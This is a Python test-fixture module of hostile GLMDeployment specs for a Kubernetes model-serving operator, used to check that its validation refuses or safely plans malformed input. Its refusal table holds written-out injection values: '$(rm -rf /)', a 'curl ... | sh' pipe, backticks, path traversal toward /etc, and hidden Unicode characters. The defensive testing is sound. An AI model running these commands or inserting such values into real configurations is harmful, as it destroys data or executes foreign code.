"""Hostile GLMDeployment specs: odd, oversized or malformed values in every field a user writes.

Each case is one mutation of a small valid spec (GLM-4-9B on L4). The tests check invariants, not
a table of expected outcomes: a case is either refused when it is applied (by the CRD's schema and
CEL rules, and by the pydantic models, naming the field), or accepted and then planned to a status
condition, with child objects the apiserver accepts. Nothing may crash the planner, loop on a 422
or freeze the operator (inline configs are bounded).

Some cases cannot work at all and say what must happen to them (``expect``): ``refused`` at apply
time naming the field, or ``not-planned``: accepted, then ``Planned=False`` with a message naming
the field and the fix. None of them may be planned to running pods (the hostile-input review found
15 such specs accepted and planned).

Used by ``tests/unit/test_hostile_specs.py`` (pydantic + planner, every case),
``tests/integration/test_hostile_specs.py`` (the real apiserver's dry runs) and
``tests/e2e/test_hostile_specs.py`` (a sample applied for real, reconciled by the operator).
"""

from __future__ import annotations

import copy
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from glm_operator.api.inline_config import MAX_LAYERS as MAX_INLINE_LAYERS

BASE_SPEC: dict[str, Any] = {
    "model": {"id": "zai-org/glm-4-9b-chat"},
    "contextLength": 8192,
    "gpu": {"products": ["L4"]},
}

# A small GQA config.json (GLM-4-9B's shape) for the inline-config cases.
INLINE_CONFIG: dict[str, Any] = {
    "architectures": ["GlmForCausalLM"],
    "model_type": "glm",
    "hidden_size": 4096,
    "num_hidden_layers": 40,
    "num_attention_heads": 32,
    "num_key_value_heads": 2,
    "head_dim": 128,
    "intermediate_size": 13696,
    "vocab_size": 151552,
    "max_position_embeddings": 131072,
    "torch_dtype": "bfloat16",
}


GROUP, VERSION, PLURAL = "inference.glm.dev", "v1alpha1", "glmdeployments"
REFUSED = "refused"
NOT_PLANNED = "not-planned"


@dataclass(frozen=True)
class HostileCase:
    id: str
    spec: dict[str, Any]
    field: str  # the spec field the case attacks, dotted (for messages: the refusal must name it)
    expect: str = ""  # REFUSED, NOT_PLANNED, or "" (either outcome, or a plan, is fine)


def _set(spec: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    out = copy.deepcopy(spec)
    node = out
    parts = path.split(".")
    for part in parts[:-1]:
        node = node.setdefault(part, {})
    node[parts[-1]] = value
    return out


_BIG = 100_000

_SCALARS: dict[str, list[Any]] = {
    "serving.image": [
        "vllm/vllm-openai:v0.11.0\n",
        " vllm/vllm-openai:v0.11.0",
        "vllm/vllm-openai:v0.11.0 ",
        "vllm/vllm-openai:\tv0.11.0",
        "vllm\x00openai",
        "vllm\x1bopenai",
        "vllm/vllm-openai:v0.11.0\r",
        "",
        "x" * 600,
        "vllm/vllm-öpenai",
        "registry.example.com:5000/vllm/vllm-openai@sha256:" + "a" * 64,
        "vllm/vllm-openai:latest",
    ],
    "serving.port": [0, -1, 65536, 10**12, "8000", 8080, 1],
    "serving.maxNumSeqs": [0, -5, 10**9, "many", 64],
    "serving.apiKeySecretRef": [
        {"name": "Bad_Name"},
        {"name": "ok", "key": "a b"},
        {"name": "ok", "key": "a/b"},
        {"name": "", "key": "k"},
        {"name": "x" * 300},
        {"name": "ok", "key": "token.txt"},
    ],
    "serving.nodeSelector": [
        {"pool": "x" * _BIG},
        {"pool": "x" * 64},
        {"pool": "bad value!"},
        {"pool": "-leading"},
        {"bad key": "v"},
        {"a/b/c": "v"},
        {"/v": "v"},
        {"example.com/" + "n" * 64: "v"},
        {f"k{i}": "v" for i in range(100)},
        {"": "v"},
        {"topology.kubernetes.io/zone": "eu-west-1a"},
        {"pool": ""},
        {"pool": 5},
    ],
    "serving.tolerations": [
        [{"key": "k", "operator": "Exists", "effect": "NoSchedule", "tolerationSeconds": 60}],
        [{"key": "k", "operator": "Exists", "tolerationSeconds": 60}],
        [{"key": "k", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 60}],
        [{"key": "k", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": -1}],
        [{"key": "k", "operator": "Exists", "value": "v"}],
        [{"operator": "Equal", "value": "v"}],
        [{"operator": "Exists"}],
        [{"key": "bad key", "operator": "Exists"}],
        [{"key": "k", "operator": "Equal", "value": "x" * 100}],
        [{"key": "k", "operator": "Equal", "value": "bad value!"}],
        [{"key": "k", "operator": "Gt", "value": "1"}],
        [{"key": "k", "effect": "Bogus"}],
        [{"key": "k", "value": "v"}],
        [{"key": "x" * 400, "operator": "Exists"}],
        [{"key": "k", "operator": "Exists"}] * 65,
    ],
    "serving.modelCache": [
        {"claimName": "cache", "subPath": "../etc"},
        {"claimName": "cache", "subPath": "a/../../b"},
        {"claimName": "cache", "subPath": "/abs"},
        {"claimName": "cache", "subPath": ".."},
        {"claimName": "cache", "subPath": "models/glm..4"},
        {"claimName": "cache", "mountPath": "relative/path"},
        {"claimName": "Bad_Claim"},
        {"claimName": ""},
        {"claimName": "cache", "subPath": "hf"},
    ],
    "serving.extraArgs": [
        ["--enable-prefix-caching"],
        ["x" * 2000],
        ["--max-num-batched-tokens", "8192"],
        [""],
        ["a"] * 65,
    ],
    "contextLength": [0, 255, -1, 10**12, "8192", 8192.5, None, 4 * 1024 * 1024, 131073],
    "minConcurrency": [0, -1, 10**9, 4096, 1.5, "two"],
    "replicas": [-1, 10**9, 1001, 0, "3", 2.5],
    "quantization": ["fp4", "", "FP8", None, 8, "int4"],
    "kvCacheDtype": ["fp16", "", "FP8", "fp8"],
    "gpu": [
        {"products": [""]},
        {"products": ["x" * 200]},
        {"products": ["Nonexistent-GPU"]},
        {"products": ["L4"] * 17},
        {"products": "L4"},
        {"tensorParallelSize": 3},
        {"tensorParallelSize": 64},
        {"tensorParallelSize": -2},
        {"pipelineParallelSize": 2},
        {"pipelineParallelSize": 99, "allowMultiNode": True},
        {"memoryUtilization": 2},
        {"memoryUtilization": 0.1},
        {"memoryUtilization": "high"},
        {"products": ["L4"], "tensorParallelSize": 8},
        {"products": ["L4"], "allowMultiNode": "yes"},
    ],
    "autoscaling": [
        {"minReplicas": 5, "maxReplicas": 2},
        {"minReplicas": 0},
        {"maxReplicas": 10**6},
        {"targetQueueLength": 0},
        {"intervalSeconds": 1},
        {"scaleDownStabilizationSeconds": -1},
        {"minReplicas": 1, "maxReplicas": 3, "bogus": 1},
    ],
    "model": [
        {"id": "../../etc/passwd"},
        {"id": "a b"},
        {"id": ""},
        {"id": "x" * 300},
        {"id": "zai-org/not-a-model"},
        {"servedModelName": "glm"},
        {"id": "zai-org/glm-4-9b-chat", "servedModelName": "bad name"},
        {"id": "zai-org/glm-4-9b-chat", "source": "ftp://x"},
        {"id": "zai-org/glm-4-9b-chat", "source": "hf://a b"},
        {"id": "zai-org/glm-4-9b-chat", "source": "pvc://Bad/x"},
        {"id": "zai-org/glm-4-9b-chat", "bogus": True},
        {"config": []},
        {"config": "config.json"},
        {"config": {}},
    ],
}

_RESOURCE_VALUES: list[Any] = [
    "lots",
    "-1",
    -1,
    "1.5.5",
    "",
    "1Gi ",
    "∞",
    "0x10",
    "1e3",
    "100m",
    0,
    10**20,
    "+2",
]
_RESOURCE_NAMES: list[str] = [
    "bad key",
    "gpu",
    "nvidia.com/gpu",
    "memory",
    "hugepages-2Mi",
    "example.com/fpga",
]

_ENV: list[Any] = [
    {"name": "1BAD", "value": "x"},
    {"name": "A=B", "value": "x"},
    {"name": "", "value": "x"},
    {"name": "A", "value": "x" * 40000},
    {"name": "A", "valueFrom": {"fieldRef": {"fieldPath": "x"}}},
    {"name": "A", "valueFrom": {"fieldRef": {"fieldPath": "spec.containers[0].image"}}},
    {"name": "A", "valueFrom": {"fieldRef": {"fieldPath": "metadata.labels"}}},
    {"name": "A", "valueFrom": {"fieldRef": {"fieldPath": "metadata.labels['app']"}}},
    {"name": "A", "valueFrom": {"fieldRef": {"fieldPath": "status.podIP"}}},
    {"name": "A", "valueFrom": {"fieldRef": {"fieldPath": "status.podIP", "apiVersion": "v2"}}},
    {"name": "A", "valueFrom": {"resourceFieldRef": {"resource": "limits.gpu"}}},
    {"name": "A", "valueFrom": {"resourceFieldRef": {"resource": "limits.memory"}}},
    {"name": "A", "valueFrom": {"resourceFieldRef": {"resource": "limits.cpu", "divisor": "lots"}}},
    {"name": "A", "valueFrom": {"resourceFieldRef": {"resource": "limits.cpu", "containerName": "Bad_C"}}},
    {"name": "A", "valueFrom": {"secretKeyRef": {"name": "Bad_Name", "key": "k"}}},
    {"name": "A", "valueFrom": {"secretKeyRef": {"name": "s", "key": "a/b"}}},
    {"name": "A", "valueFrom": {"configMapKeyRef": {"name": "c", "key": "a b"}}},
    {"name": "A", "valueFrom": {"configMapKeyRef": {"name": "Bad!", "key": "k"}}},
    {"name": "A", "valueFrom": {}},
    {"name": "A", "value": "1", "valueFrom": {"fieldRef": {"fieldPath": "metadata.name"}}},
    {
        "name": "A",
        "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}, "fieldRef": {"fieldPath": "metadata.name"}},
    },
    {"name": "HF_TOKEN", "valueFrom": {"secretKeyRef": {"name": "hf", "key": "token"}}},
]

_CONFIG_KEYS: dict[str, list[Any]] = {
    "num_hidden_layers": [1_000_000, 257, 0, -1, "40", 40.5, None, True, [40]],
    "num_attention_heads": [0, 10**6, 3, "32", 1],
    "num_key_value_heads": [0, 64, 3, 10**6],
    "hidden_size": [0, 1, 10**9, "4096", 31],
    "head_dim": [0, 10**6, "128"],
    "vocab_size": [0, 10**12, "x"],
    "intermediate_size": [0, 10**12],
    "max_position_embeddings": [0, 10**15, "131072", 1000],
    "n_routed_experts": [10**6, -1, "many"],
    "kv_lora_rank": [10**9, -1],
    "layer_types": [["linear_attention"] * 1_000, "linear", [1, 2, 3], [{"a": 1}] * 40],
    "indexer_types": [["full"] * 300],
    "text_config": [{"num_hidden_layers": 10**6}, [], "x", {"hidden_size": 0}],
    "torch_dtype": ["float8", 5, "x" * 100],
    "architectures": ["GlmForCausalLM", [1], ["x"] * 20],
    "quantization_config": [
        {"quant_method": "fp8", "weight_block_size": [1]},
        {"quant_method": "fp8", "weight_block_size": [{"a": 1}, 2]},
        {"quant_method": "fp8", "weight_block_size": "128x128"},
        {"quant_method": "fp8", "weight_block_size": [0, 0]},
        {"quant_method": "gptq", "bits": "x"},
        {"quant_method": "gptq", "bits": 3},
        {"quant_method": "gptq", "bits": 4, "group_size": "all"},
        {"quant_method": "awq", "w_bit": 99},
        {"quant_method": 5},
        {"quant_method": None},
        {"quant_method": "compressed-tensors", "config_groups": {"g": {"weights": {"num_bits": "x"}}}},
        {
            "quant_method": "compressed-tensors",
            "config_groups": {"g": {"weights": {"strategy": "block", "block_structure": [128]}}},
        },
        {
            "quant_method": "compressed-tensors",
            "config_groups": {"g": {"weights": {"strategy": "block", "block_structure": "x"}}},
        },
        {"quant_method": "compressed-tensors", "config_groups": [1, 2]},
        {"quant_method": "compressed-tensors", "config_groups": {"g": {"weights": {"num_bits": 3}}}},
        {"quant_method": "compressed-tensors", "config_groups": {"g": {"weights": {"group_size": "x"}}}},
        {"quant_method": "bitsandbytes"},
        [],
        "fp8",
        {"quant_method": "fp8"},
    ],
}


_GQA_MLA = {"kv_lora_rank": 512, "qk_rope_head_dim": 64, "qk_nope_head_dim": 128, "v_head_dim": 128}

# Specs that cannot work (the kubelet cannot pull the image, vLLM cannot parse its arguments, the
# process cannot get its environment, the config is nonsense) and must be refused at apply time.
_REFUSED: dict[str, list[Any]] = {
    "serving.image": ["UPPER/Case:tag", "name@sha256:zzz", "vllm/vllm-openai@sha256:" + "A" * 64],
    "model.source": [
        "hf://zai-org/glm-4-9b-chat@../../x",
        "hf://zai-org/glm-4-9b-chat@main//x",
        "hf://zai-org/glm..4",
        "hf://zai-org/glm-4-9b-chat@-x",
        "pvc://models/../../etc",
        "pvc://models/a//b",
        "s3://bucket/a/../../b",
        "pvc://models/a\x00b",
    ],
    "serving.extraArgs": [
        ["--max-model-len 99999"],
        ["--MAX-MODEL-LEN=1"],
        ["--max-model-len\t=1"],
        [""],
        ["--enable-prefix-caching", "\x00"],
        ["--seed=\x1b[31m"],
        ["--max-model-len.x=1"],
        ["-TP=8"],
    ],
    "serving.env": [{"name": "A", "value": "a\x00b"}, {"name": "A", "value": "\x1b[2J"}],
    "serving.modelCache": [
        {"claimName": "hf-cache", "mountPath": "/models\x00x"},
        {"claimName": "hf-cache", "mountPath": "/models\n"},
    ],
    "model.config.quantization_config.bits": [
        {"quant_method": "awq", "bits": None},
        {"quant_method": "gptq"},
    ],
    "model.config.kv_lora_rank": [
        {"kv_lora_rank": 512},
        {**_GQA_MLA, "qk_nope_head_dim": None},
        {**_GQA_MLA, "kv_lora_rank": 0},
    ],
    "model.config.moe_intermediate_size": [
        {"n_routed_experts": 8, "num_experts_per_tok": 2, "moe_intermediate_size": 0}
    ],
    "model.config.num_experts_per_tok": [
        {"n_routed_experts": 8},
        {"n_routed_experts": 8, "num_experts_per_tok": 9},
        {"num_local_experts": 8, "num_experts_per_tok": 0},
    ],
    "model.config.index_head_dim": [{**_GQA_MLA, "index_n_heads": 32, "index_head_dim": 0}],
    "model.config.index_n_heads": [
        {**_GQA_MLA, "index_n_heads": 32},
        {"index_n_heads": 32, "index_head_dim": 128},
    ],
}


@dataclass(frozen=True)
class RefusedAtApply:
    """One row of the table of specs that must be refused when they are applied.

    ``path`` is the dotted spec field the change is made at; ``field`` the field path the apiserver
    must name (``spec.serving.extraArgs[0]``); ``entry`` the index of the guilty extraArgs entry
    when the refusal is about the list as a whole (a rule over the entries names it in its message).
    """

    id: str
    family: str  # flags, argv, unicode, paths, sizes
    path: str
    value: Any
    field: str
    entry: int | None = None

    @property
    def spec(self) -> dict[str, Any]:
        return _set(BASE_SPEC, self.path, self.value)


def _args(case_id: str, family: str, args: list[str], index: int, whole_list: bool = True) -> RefusedAtApply:
    """An extraArgs row: refused by a rule over the list (naming ``index``), or by one on the entry."""
    if whole_list:
        return RefusedAtApply(case_id, family, "serving.extraArgs", args, "spec.serving.extraArgs", index)
    return RefusedAtApply(case_id, family, "serving.extraArgs", args, f"spec.serving.extraArgs[{index}]")


def _cache(case_id: str, family: str, key: str, value: str) -> RefusedAtApply:
    return RefusedAtApply(
        case_id,
        family,
        "serving.modelCache",
        {"claimName": "hf-cache", key: value},
        f"spec.serving.modelCache.{key}",
    )


_RLO, _ZWSP, _ZWJ, _BOM, _LRI = "\u202e", "\u200b", "\u200d", "\ufeff", "\u2066"

#: Specs vLLM or the kubelet would refuse, or that would hide what they do: each must be refused at
#: apply with the field named (issue 52's four first). tests/integration/test_refused_at_apply.py
#: applies every row to a real apiserver; tests/unit/test_refused_at_apply.py checks the models.
REFUSED_AT_APPLY: list[RefusedAtApply] = [
    # the four the attack run found accepted
    _args("flag-name-hides-rlo", "unicode", [f"--x={_RLO}..."], 0, whole_list=False),
    _args("shell-substitution", "argv", ["$(rm -rf /)"], 0),
    _args("shell-pipe", "argv", ["; curl https://example.com/x.sh | sh"], 0),
    _args("backticks", "argv", ["`id`"], 0),
    # flags: what vLLM's parser of the default image's release does not have, or reads otherwise
    _args("abbreviated-flag", "flags", ["--enable-prefix"], 0),
    _args("unknown-flag", "flags", ["--enable-prefix-caching", "--no-such-flag"], 1),
    _args("switch-with-value", "flags", ["--enable-prefix-caching=true"], 0),
    _args("help-exits", "flags", ["--help"], 0),
    _args("field-of-a-non-json-option", "flags", ["--seed.x=1"], 0),
    _args("managed-short-option", "flags", ["-tp", "8"], 0, whole_list=False),
    _args("managed-with-underscores", "flags", ["--max_model_len=1000000"], 0, whole_list=False),
    _args("upper-case-flag", "flags", ["--MAX-NUM-SEQS=1"], 0, whole_list=False),
    # argv: entries in places vLLM's parser reads as stray positional arguments, or flags short of a value
    _args("flag-missing-its-value", "argv", ["--enable-prefix-caching", "--seed"], 1),
    _args("second-value-for-one", "argv", ["--seed", "1", "2"], 2),
    _args("value-after-a-switch", "argv", ["--enable-prefix-caching", "yes"], 1),
    _args("value-after-a-glued-value", "argv", ["--seed=1", "2"], 1),
    _args("negative-decimal-is-not-a-value", "argv", ["--seed", "-0.5"], 0),
    _args("end-of-options", "argv", ["--", "x"], 0, whole_list=False),
    _args("flag-and-value-in-one-entry", "argv", ["--max-num-batched-tokens 8192"], 0, whole_list=False),
    _args("empty-entry", "argv", ["--seed", "1", ""], 2, whole_list=False),
    # unicode: hidden characters in strings that reach an argv, an env var, a label or a file
    _args("zero-width-joiner-in-a-value", "unicode", ["--chat-template", f"a{_ZWJ}b"], 1, whole_list=False),
    RefusedAtApply(
        "env-value-rlo",
        "unicode",
        "serving.env",
        [{"name": "A", "value": f"ok{_RLO}kO"}],
        "spec.serving.env[0].value",
    ),
    RefusedAtApply(
        "env-value-tag-characters",
        "unicode",
        "serving.env",
        [{"name": "A", "value": "x\U000e0069\U000e0067\U000e006e"}],
        "spec.serving.env[0].value",
    ),
    RefusedAtApply(
        "source-zero-width", "unicode", "model.source", f"pvc://models/glm{_ZWSP}", "spec.model.source"
    ),
    RefusedAtApply("gpu-product-isolate", "unicode", "gpu.products", [f"L4{_LRI}"], "spec.gpu.products[0]"),
    _cache("sub-path-bom", "unicode", "subPath", f"{_BOM}hf"),
    # paths: mounts over the root, system directories or the operator's own mounts
    _cache("mount-root", "paths", "mountPath", "/"),
    _cache("mount-dev-shm", "paths", "mountPath", "/dev/shm"),
    _cache("mount-etc", "paths", "mountPath", "/etc"),
    _cache("mount-below-usr", "paths", "mountPath", "/usr/lib/hf"),
    _cache("mount-proc", "paths", "mountPath", "/proc/self"),
    _cache("mount-models", "paths", "mountPath", "/models"),
    _cache("mount-root-home", "paths", "mountPath", "/root/"),
    _cache("mount-parent-segment", "paths", "mountPath", "/data/../etc"),
    _cache("mount-empty-segment", "paths", "mountPath", "//etc"),
    _cache("mount-relative", "paths", "mountPath", "data/hf"),
    _cache("mount-newline", "paths", "mountPath", "/data/hf\n"),
    _cache("sub-path-parent", "paths", "subPath", "../other"),
    _cache("sub-path-absolute", "paths", "subPath", "/abs"),
    # sizes: past the schema's bounds
    RefusedAtApply(
        "extra-args-65",
        "sizes",
        "serving.extraArgs",
        ["--enable-prefix-caching"] * 65,
        "spec.serving.extraArgs",
    ),
    _args("extra-arg-1025-characters", "sizes", ["--chat-template", "x" * 1025], 1, whole_list=False),
    RefusedAtApply(
        "env-129",
        "sizes",
        "serving.env",
        [{"name": f"E{i}", "value": "x"} for i in range(129)],
        "spec.serving.env",
    ),
    RefusedAtApply(
        "env-value-32769",
        "sizes",
        "serving.env",
        [{"name": "A", "value": "x" * 32769}],
        "spec.serving.env[0].value",
    ),
    _cache("mount-path-1025", "sizes", "mountPath", "/" + "d" * 1024),
    RefusedAtApply("gpu-products-17", "sizes", "gpu.products", ["L4"] * 17, "spec.gpu.products"),
]

# Specs the schema cannot judge (they depend on the model and the GPUs): Planned=False naming the
# field to change and the fix.
_NOT_PLANNED: dict[str, dict[str, Any]] = {
    "gpu.products": {"model": {"id": "zai-org/GLM-5"}},  # sparse MLA needs compute capability 9.0
    "gpu.tensorParallelSize": {"gpu": {"products": ["L4"], "tensorParallelSize": 8}},  # 4 per node
    "quantization": {"model": {"id": "zai-org/GLM-4.5"}, "quantization": "bf16"},  # 710 GB on L4s
}


def hostile_cases() -> list[HostileCase]:
    """Every case, in a stable order with unique ids (at least 200)."""
    return list(_cases())


def _must_fail() -> Iterator[HostileCase]:
    for field_name, values in _REFUSED.items():
        for i, value in enumerate(values):
            case_id = f"refused-{field_name}-{i}"
            if field_name.startswith("model.config."):
                changes = {"quantization_config": value} if field_name.endswith(".bits") else value
                config = {**INLINE_CONFIG, **changes}
                spec = _set(BASE_SPEC, "model", {"id": "example/inline-glm", "config": config})
            elif field_name == "serving.env":
                spec = _set(BASE_SPEC, "serving.env", [value])
            else:
                spec = _set(BASE_SPEC, field_name, value)
            yield HostileCase(case_id, spec, field_name, REFUSED)
    for row in REFUSED_AT_APPLY:
        yield HostileCase(f"refused-{row.family}-{row.id}", row.spec, row.path, REFUSED)
    for field_name, changes in _NOT_PLANNED.items():
        spec = {**copy.deepcopy(BASE_SPEC), **changes}
        yield HostileCase(f"not-planned-{field_name}", spec, field_name, NOT_PLANNED)


def _cases() -> Iterator[HostileCase]:
    for field_name, values in _SCALARS.items():
        for i, value in enumerate(values):
            yield HostileCase(f"{field_name}-{i}", _set(BASE_SPEC, field_name, value), field_name)
    for i, value in enumerate(_RESOURCE_VALUES):
        for side in ("limits", "requests"):
            spec = _set(BASE_SPEC, f"serving.resources.{side}", {"cpu": value})
            yield HostileCase(f"serving.resources.{side}.cpu-{i}", spec, f"serving.resources.{side}")
    for i, name in enumerate(_RESOURCE_NAMES):
        spec = _set(BASE_SPEC, "serving.resources.limits", {name: "1"})
        yield HostileCase(f"serving.resources.limits.name-{i}", spec, "serving.resources.limits")
    for i, (request, limit) in enumerate(
        [("2", "1"), ("1500m", "1"), ("1Gi", "1G"), ("1", "1"), ("500m", "1")]
    ):
        spec = _set(BASE_SPEC, "serving.resources", {"requests": {"cpu": request}, "limits": {"cpu": limit}})
        yield HostileCase(f"serving.resources.request-vs-limit-{i}", spec, "serving.resources.requests")
    for i, env in enumerate(_ENV):
        yield HostileCase(f"serving.env-{i}", _set(BASE_SPEC, "serving.env", [env]), "serving.env")
    for key, values in _CONFIG_KEYS.items():
        for i, value in enumerate(values):
            config = {**INLINE_CONFIG, key: value}
            spec = _set(BASE_SPEC, "model", {"id": "example/inline-glm", "config": config})
            yield HostileCase(f"model.config.{key}-{i}", spec, f"model.config.{key}")
    yield from _must_fail()


def largest_inline_specs() -> list[HostileCase]:
    """The largest inline configs validation allows (256 layers, 1024 heads, 4096 experts, ...),
    shaped to be the planner's worst cases: every GPU type and pipeline split is tried
    (``allowMultiNode``, no ``gpu.products``), and one per attention family (GQA at the maximum
    sizes, which fits nowhere; small enough sizes to fit and plan children; linear attention with
    a per-layer type list; MLA with a sparse-attention indexer on every layer). About 0.2 to 0.7 s
    of CPU each on a loaded 2-core machine."""
    layers = MAX_INLINE_LAYERS
    largest: dict[str, Any] = {
        "architectures": ["Glm4MoeForCausalLM"],
        "model_type": "glm4_moe",
        "hidden_size": 131072,
        "num_hidden_layers": layers,
        "num_attention_heads": 1024,
        "num_key_value_heads": 1024,
        "head_dim": 128,
        "intermediate_size": 1 << 20,
        "vocab_size": 1 << 22,
        "max_position_embeddings": 1 << 27,
        "torch_dtype": "bfloat16",
        "n_routed_experts": 4096,
        "num_experts_per_tok": 4096,
        "moe_intermediate_size": 1 << 20,
        "n_shared_experts": 64,
        "first_k_dense_replace": 0,
    }
    fits = {
        **largest,
        "hidden_size": 4096,
        "num_key_value_heads": 8,
        "intermediate_size": 1024,
        "vocab_size": 1000,
        "moe_intermediate_size": 64,
        "n_routed_experts": 8,
        "num_experts_per_tok": 2,
    }
    configs = {
        "gqa-largest": largest,
        "gqa-fits": fits,
        "linear-attention": {
            **fits,
            "layer_types": ["linear_attention", "full_attention"] * (layers // 2),
            "linear_num_heads": 1024,
            "linear_head_dim": 128,
        },
        "mla-indexer": {
            **fits,
            "architectures": ["GlmMoeDsaForCausalLM"],
            "model_type": "glm_moe_dsa",
            "kv_lora_rank": 512,
            "q_lora_rank": 1536,
            "qk_rope_head_dim": 64,
            "qk_nope_head_dim": 128,
            "v_head_dim": 128,
            "index_n_heads": 64,
            "index_head_dim": 128,
            "indexer_types": ["full"] * layers,
        },
    }
    return [
        HostileCase(
            f"largest-{name}",
            {
                "model": {"id": "example/largest", "config": config},
                "contextLength": 131072,
                "gpu": {"allowMultiNode": True},
            },
            "model.config",
        )
        for name, config in configs.items()
    ]


def manifest(case: HostileCase, name: str) -> dict[str, Any]:
    """The GLMDeployment ``name`` with the case's spec."""
    return {
        "apiVersion": f"{GROUP}/{VERSION}",
        "kind": "GLMDeployment",
        "metadata": {"name": name},
        "spec": case.spec,
    }


def create(api: Any, ns: str, obj: dict[str, Any], dry_run: bool = True) -> dict[str, Any]:
    """POST ``obj`` (a GLMDeployment or one of its children) with the kubernetes client ``api``,
    ``dryRun=All`` unless ``dry_run`` is false; the GLMDeployment with strict field validation."""
    from kubernetes import client

    kind = obj["kind"]
    body: Any = obj  # the typed client wants its models; it sends a dict as it is
    dry = "All" if dry_run else None
    out: Any
    if kind == "GLMDeployment":
        out = client.CustomObjectsApi(api).create_namespaced_custom_object(
            GROUP, VERSION, ns, PLURAL, body, dry_run=dry, field_validation="Strict"
        )
        return dict(out)
    if kind == "Deployment":
        out = client.AppsV1Api(api).create_namespaced_deployment(ns, body, dry_run=dry)
    elif kind == "Service":
        out = client.CoreV1Api(api).create_namespaced_service(ns, body, dry_run=dry)
    elif kind == "PodDisruptionBudget":
        out = client.PolicyV1Api(api).create_namespaced_pod_disruption_budget(ns, body, dry_run=dry)
    else:
        raise AssertionError(f"unexpected child kind {kind}")
    return dict(out.to_dict())
